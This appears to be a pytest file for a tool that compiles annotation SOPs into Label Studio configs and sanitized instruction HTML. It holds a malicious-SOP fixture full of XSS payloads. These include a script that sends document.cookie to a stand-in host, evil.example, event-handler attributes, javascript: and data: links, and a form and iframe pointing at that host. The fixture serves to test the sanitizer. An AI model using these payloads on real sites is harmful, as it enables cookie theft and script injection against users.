"""Compiling to a Label Studio config and to sanitized instruction HTML."""

from __future__ import annotations

import copy
import xml.etree.ElementTree as ET

import pytest
from sop_helpers import SHIPPED, assert_safe

from labelqa.sops import (
    CONTROL_NAME,
    compile_instructions,
    compile_label_config,
    render_html,
)

ALL = [(k, v) for k, vs in SHIPPED.items() for v in vs]


# -- label config --------------------------------------------------------------------------
@pytest.mark.parametrize(("key", "version"), ALL)
def test_label_config_parses_and_lists_every_class_once(shipped, key, version):
    sop = shipped[key, version]
    root = ET.fromstring(compile_label_config(sop))
    assert root.tag == "View"
    (choices,) = root.findall("Choices")
    assert choices.get("name") == CONTROL_NAME == "label"
    assert choices.get("toName") == sop.task.fields[0].name
    assert choices.get("choice") == ("multiple" if sop.task.multiple else "single")
    values = [c.get("value") for c in choices.findall("Choice")]
    assert values == list(sop.class_values)
    assert all(values.count(v) == 1 for v in sop.class_values)
    hints = {c.get("value"): c.get("hint") for c in choices.findall("Choice")}
    assert all(hints[c.value] and hints[c.value][:20] in c.definition for c in sop.classes)


def test_label_config_objects_per_field_kind(shipped):
    root = ET.fromstring(compile_label_config(shipped["ecommerce-prohibited-listings", "2.0.0"]))
    objects = [(e.tag, e.get("name"), e.get("value")) for e in root if e.tag != "Header"]
    assert objects[:3] == [
        ("Text", "title", "$title"),
        ("Text", "description", "$description"),
        ("Image", "image", "$image"),
    ]
    headers = [e.get("value") for e in root.findall("Header")]
    assert headers == ["Listing title", "Listing description", "Main listing photo"]


def test_label_config_escapes_attribute_text(front, make):
    front["classes"][0]["definition"] = 'Says "hi" & <waves>\n  politely\x07'
    front["task"]["fields"][0]["label"] = 'Post <text> & "quote"'
    xml = compile_label_config(make(front))
    root = ET.fromstring(xml)
    assert root.find("Choices/Choice").get("hint") == 'Says "hi" & <waves> politely'  # type: ignore[union-attr]
    assert root.find("Header").get("value") == 'Post <text> & "quote"'  # type: ignore[union-attr]
    assert "<waves>" not in xml


def test_label_config_rejects_unknown_kind(front, make):
    front["task"]["fields"][0]["kind"] = "video"
    with pytest.raises(ValueError, match="expected one of text, hypertext, image, audio"):
        compile_label_config(make(front))


# -- instructions --------------------------------------------------------------------------
@pytest.mark.parametrize(("key", "version"), ALL)
def test_instructions_hold_classes_rules_and_body(shipped, key, version):
    sop = shipped[key, version]
    html = compile_instructions(sop)
    assert_safe(html)
    for cls in sop.classes:
        assert f'<code class="sop-class">{cls.value}</code>' in html
    for rule in sop.decision_rules:
        assert f'<strong class="sop-rule-id">{rule.id}</strong>' in html
    assert "Counter-examples" in html and "<table" in html
    assert html.count("<h1>") == 1
    assert f"What changed in {version}" in html


def test_instructions_render_markdown_tables_and_links(shipped):
    html = compile_instructions(shipped["ecommerce-prohibited-listings", "2.0.0"])
    assert "<td><code>weapon_accessories</code></td>" in html
    assert 'href="https://www.cpsc.gov/Recalls"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


MALICIOUS_BODY = """Totally normal SOP.

<script>document.location='https://evil.example/?c='+document.cookie</script>

Click <a href="#" onclick="steal()">here</a> or [there](javascript:alert(1)).

<iframe src="https://evil.example/frame"></iframe>

<svg onload="alert(1)"><circle r="4"/></svg>

[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<img src="x" onerror="alert(1)"> <a href="JaVa&#x09;script:alert(2)">tab</a>

<object data="evil.swf"></object><form action="https://evil.example"><input></form>

<p style="background:url(javascript:alert(1))" onmouseover="x()">styled</p>

Keep this sentence.
"""


def _malicious(front, make):
    front = copy.deepcopy(front)
    front["classes"][0]["definition"] = 'Fine <img src=x onerror="alert(1)"> <script>x()</script>'
    front["classes"][0]["examples"] = ["[x](javascript:alert(1))", "<svg onload=alert(1)>"]
    front["decision_rules"][0]["text"] = '<a href="javascript:alert(1)">rule</a>'
    front["title"] = "<script>alert('title')</script>"
    return make(front, MALICIOUS_BODY)


@pytest.mark.parametrize("render", [compile_instructions, render_html])
def test_malicious_sop_is_sanitized(front, make, render):
    html = render(_malicious(front, make))
    assert_safe(html)
    lowered = html.lower()
    # Markdown leaves a refused link as inert text, so look for URLs only inside attributes
    # (assert_safe); everything below must be gone altogether.
    for needle in ("onclick", "onerror", "onload", "onmouseover", "<object", "<form", "<input",
                   "document.cookie", "steal()", "evil.example"):  # fmt: skip
        assert needle not in lowered, needle
    assert "Keep this sentence." in html
    assert "<h1>&lt;script&gt;alert('title')&lt;/script&gt;</h1>" in html


def test_render_html_wraps_the_instructions(shipped):
    sop = shipped["comment-harassment", "1.1.0"]
    html = render_html(sop)
    assert html.startswith('<article class="sop">')
    assert compile_instructions(sop) in html
    assert "under <code>hate_speech</code>" in html


def test_untrusted_classes_are_stripped(front, make):
    html = compile_instructions(make(front, '# T\n\n<div class="lsf-modal evil">x</div>\n'))
    assert "lsf-modal" not in html and "evil" not in html
